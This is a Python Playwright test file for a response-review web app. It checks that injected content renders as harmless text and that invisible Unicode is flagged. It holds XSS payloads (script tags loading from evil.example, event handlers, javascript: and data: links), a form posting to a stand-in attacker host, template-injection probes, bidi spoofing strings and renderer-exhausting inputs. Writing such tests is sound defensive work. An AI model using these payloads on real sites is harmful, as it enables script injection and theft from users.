"""Hostile content in Chromium under the real policy: shown as text, marked where invisible, and it runs nothing.

Each kind stands at once in the prompt, both responses, a document and its title, a tool's name, its arguments and its
result; a reviewer reads it and answers with it, and a manager, whose reviewer is named so, reads the rationale.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Request, expect

from feedback.models import ItemRevision, Response, Review, User
from feedback.unseen import HIDDEN
from tests.world import WHY, World, make_item

from .conftest import Visitor
from .desk import desk_path, fill

Visit = Callable[..., Visitor]

FORBIDDEN = "script, img, iframe, object, embed, form, input, style, base, link, meta, svg:not(.icon), [style], [onclick]"
KINDS = {
    "script": "<script>document.title='pwned'</script><script src=https://evil.example/x.js></script>",
    "svg": "<svg onload=document.title='pwned'><animate onbegin=document.title='pwned'></svg>",
    "handler": "<img src=x onerror=document.title='pwned'> <details open ontoggle=document.title='pwned'>",
    "data address": "[open](data:text/html;base64,PHNjcmlwdD4=) <iframe src='data:text/html,x'></iframe>",
    "javascript address": "[open](javascript:document.title='pwned') [open](JaVa\tScRiPt&colon;x) <javascript:x>",
    "remote image": "![see](https://evil.example/pixel.png) <img src=//evil.example/pixel.png>",
    "style": "<style>*{display:none}</style><p style='position:fixed;inset:0'>over everything</p> @import url(//evil.example)",
    "form": "<form action=//evil.example><input name=csrfmiddlewaretoken></form><base href=//evil.example>",
    "template": "{{ project.name }} {% debug %} ${7*7} <%= 7*7 %> #{7*7}",
    "false link": "[https://bank.example](https://evil.example/login) <https://bank.example@evil.example/>",
}
MARKDOWN = "#text-B > .turn:last-child .prose"
PLACES = (
    "#panel-prompt",
    "#text-A > .turn .prose",
    MARKDOWN,
    "#text-A .call summary",
    "#text-A .call pre",
    "#text-A details.turn summary",
    "#text-A details.turn .prose",
    ".source h2",
    ".source .prose",
    "#panel-sources .log",
    ".source .patch-text",
)
TOLD = (".reading", "details summary", ".snippet", ".compare thead", ".compare td.words")
UNSEEN = {
    "zero width": ("pay\u200bpal \ufeff\u2060", "ZWSP"),
    "bidi": ("\u202egnp.eciovni\u202c \u2066x\u2069", "RLO"),
    "control": ("\x07bell \x08 back", "␇"),
    "tags": ("innocent\U000e0069\U000e0067\U000e006e", "U+E0069"),
}

SLOW = {
    "quotes": "> " * 5_000 + "deep",
    "lists": "- " * 5_000 + "deep",
    "brackets": "[" * 50_000,
    "images": "![" * 40_000,
    "stars": "*a **b " * 14_000,
    "backticks": "`" * 99_000,
    "dollars": "$a" * 49_000,
    "formulas": "\\[\n" * 33_000,
    "tags": "<a " * 30_000,
    "table": "|a" * 200 + "\n" + "|-" * 200 + "\n" + ("|b" * 200 + "\n") * 240,
    "links": "[x](" * 24_000,
    "entities": "&#x202e;" * 12_000,
}
FREEZE = 2_000  # milliseconds
HEARTBEAT = """let last = performance.now(); window.longest = 0;
setInterval(() => { const now = performance.now(); longest = Math.max(longest, now - last); last = now; }, 20);"""


@pytest.mark.parametrize("text", KINDS.values(), ids=KINDS)
def test_what_would_run_or_load_is_text(world: World, visit: Visit, text: str) -> None:
    page, asked = at_desk(world, visit, text)
    for place in PLACES:
        # Markdown shows a link as its words and where it goes.
        said = text.lstrip("![")[:3] if place == MARKDOWN else text[:12]
        expect(page.locator(place).first).to_contain_text(said)
    assert page.title() != "pwned"
    assert page.locator(".desk :is(.text, .said)").locator(FORBIDDEN).count() == 0
    told = at_manager(world, visit, page, text, asked)
    for place in TOLD:
        expect(told.locator(place).first).to_contain_text(text[:12])
    assert told.title() != "pwned"
    assert told.locator(":is(.reading, .compare, h1, details)").locator(FORBIDDEN).count() == 0
    assert asked == []


@pytest.mark.parametrize(("text", "mark"), UNSEEN.values(), ids=UNSEEN)
def test_what_is_invisible_is_marked(world: World, visit: Visit, text: str, mark: str) -> None:
    page, asked = at_desk(world, visit, text)
    for place in PLACES:
        expect(page.locator(place).first.locator(".unseen", has_text=mark).first).to_be_attached()
    assert HIDDEN.findall(page.locator("#desk").inner_text()) == []
    told = at_manager(world, visit, page, text, asked)
    for place in TOLD:
        expect(told.locator(place).first.locator(".unseen", has_text=mark).first).to_be_attached()
    assert HIDDEN.findall(told.locator("main").inner_text()) == []
    assert asked == []


@pytest.mark.parametrize(
    ("text", "format"),
    [
        ("x" * 5_000_000, "plain"),
        ("ab c " * 1_000_000, "plain"),
        ("line\n" * 1_000_000, "plain"),
        ("\u200b" * 5_000_000, "plain"),
        ("a\u0301" * 2_500_000, "plain"),
        ("x" * 5_000_000, "markdown"),
        ("@@ -1 +1 @@\n-" + "x" * 5_000_000, "diff"),
    ],
    ids=["one word", "one line", "many lines", "invisible", "combining", "markdown", "diff"],
)
def test_five_million_characters_do_not_freeze_the_desk(
    world: World, visit: Visit, text: str, format: str
) -> None:
    hostile_item(world, (text, text), format)
    page = used(world, visit)
    said = page.locator("#text-A").evaluate("(text) => text.textContent.length")
    assert (
        said >= len(text) or "\u200b" in text
    )  # a run of invisible ones is one mark with its count


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_markdown_that_is_meant_to_be_slow_is_read_at_once(
    world: World, visit: Visit, text: str
) -> None:
    hostile_item(world, (text, "Short."), "markdown")
    used(world, visit)


# --- How ---


def at_desk(world: World, visit: Visit, text: str) -> tuple[Page, list[str]]:
    """The desk of an item that holds a text everywhere, unfolded; and what it asked of others, or said in a dialog."""
    item = make_item(world.project, text, (text, text))
    part = {"type": "text", "text": text}
    function = {"name": text, "arguments": text}
    messages = [
        {"role": "assistant", "parts": [part], "tool_calls": [{"id": "1", "function": function}]},
        {"role": "tool", "tool_call_id": "1", "parts": [part]},
        {"role": "assistant", "parts": [part | {"format": "markdown"}]},
    ]
    Response.objects.filter(revision=item.revision).update(messages=messages)
    documents = [
        {"title": text, "kind": kind, "parts": [part]} for kind in ("source", "test_run", "diff")
    ]
    ItemRevision.objects.filter(item=item).update(context=documents)
    page, asked = watched(visit(world.ana), desk_path(world.project))
    page.get_by_role("tab", name="Sources").click()
    page.evaluate("for (const each of document.querySelectorAll('.desk details')) each.open = true")
    page.wait_for_load_state("networkidle")
    return page, asked


def at_manager(world: World, visit: Visit, page: Page, text: str, asked: list[str]) -> Page:
    """The same item as its manager sees it, when a reviewer of such a name has written such a rationale."""
    User.objects.filter(pk=world.ana.pk).update(name=text[:200])
    page.evaluate("for (const each of document.querySelectorAll('.cannot')) each.open = false")
    fill(page, but_why=True)
    page.get_by_label("Why", exact=True).fill(f"{text} {WHY}")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("heading", name="Your queue is done")).to_be_visible()
    item = Review.objects.get().item.public_id
    room = f"/w/{world.workspace.slug}/p/{world.project.slug}/items/{item}/"
    told, more = watched(visit(world.mara), room)
    told.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
    told.wait_for_load_state("networkidle")
    asked.extend(more)
    return told


def watched(visitor: Visitor, path: str) -> tuple[Page, list[str]]:
    """A page, and what it asks of anybody but us: to load, to open, to say, to call itself."""
    page = visitor.context.new_page()
    asked: list[str] = []

    def heard(request: Request) -> None:
        if not request.url.startswith(visitor.address):
            asked.append(request.url)

    page.on("request", heard)
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    page.on("popup", lambda other: asked.append(f"popup {other.url}"))
    page.goto(visitor.address + path)
    page.wait_for_load_state("networkidle")
    return page, asked


def hostile_item(world: World, responses: tuple[str, str], format: str) -> None:
    """An item whose responses are in this format."""
    item = make_item(world.project, "Short.", responses)
    for response in Response.objects.filter(revision=item.revision):
        response.messages[0]["parts"][0]["format"] = format
        Response.objects.filter(pk=response.pk).update(messages=response.messages)


def used(world: World, visit: Visit) -> Page:
    """The desk, read, scrolled and answered without ever freezing; a busy machine has a second try."""
    visitor = visit(world.ana)
    longest = FREEZE
    for _ in range(2):
        page = visitor.context.new_page()
        page.add_init_script(HEARTBEAT)
        page.goto(visitor.address + desk_path(world.project))
        page.locator(".dock input[value='3']").check()
        text = page.locator("#text-A")
        for share in (0.3, 0.7, 1):
            text.evaluate("(text, share) => { text.scrollTop = share * text.scrollHeight; }", share)
            page.wait_for_timeout(100)
        page.get_by_label("Why", exact=True).press_sequentially("It is long.")
        if page.locator("[data-differences]").count():
            page.locator("[data-differences]").click()
        page.wait_for_timeout(100)
        longest = min(longest, page.evaluate("longest"))
        if longest < FREEZE:
            return page
        page.close()
    raise AssertionError("the page did not answer for two seconds, twice")
